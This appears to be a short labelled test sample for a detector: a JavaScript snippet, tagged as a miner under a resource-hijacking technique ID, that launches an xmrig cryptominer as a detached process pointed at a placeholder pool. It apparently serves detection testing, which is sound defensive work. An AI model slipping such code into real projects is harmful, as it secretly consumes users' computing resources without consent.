// expect: miner | source: T1496.001
const { spawn } = require("child_process");
spawn("./xmrig", ["-o", "stratum+tcp://pool.example.invalid:3333", "--donate-level", "1"], { detached: true });
